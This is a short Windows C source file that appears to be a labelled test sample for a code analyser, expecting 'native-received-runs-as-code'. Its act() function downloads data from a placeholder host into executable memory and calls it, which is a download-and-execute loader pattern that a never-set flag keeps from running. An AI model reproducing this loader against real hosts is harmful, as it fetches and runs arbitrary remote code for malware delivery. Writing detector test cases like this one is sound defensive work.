/* What is fetched is run as code.
 * expect: native-received-runs-as-code
 * flags: -O2 -lwininet
 * for: windows
 */
#include <winsock2.h>
#include <windows.h>
#include <stdio.h>
#include <wininet.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static int act(void) {
    DWORD n;
    HINTERNET session = InternetOpenA("x", 0, 0, 0, 0);
    HINTERNET answer = InternetOpenUrlA(session, "http://p.example.invalid/x", 0, 0, 0, 0);
    void *room = VirtualAlloc(0, 65536, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    InternetReadFile(answer, room, 65536, &n);
    ((void (*)(void))room)();
    return 0;
}

int main(void) { return never ? act() : 0; }
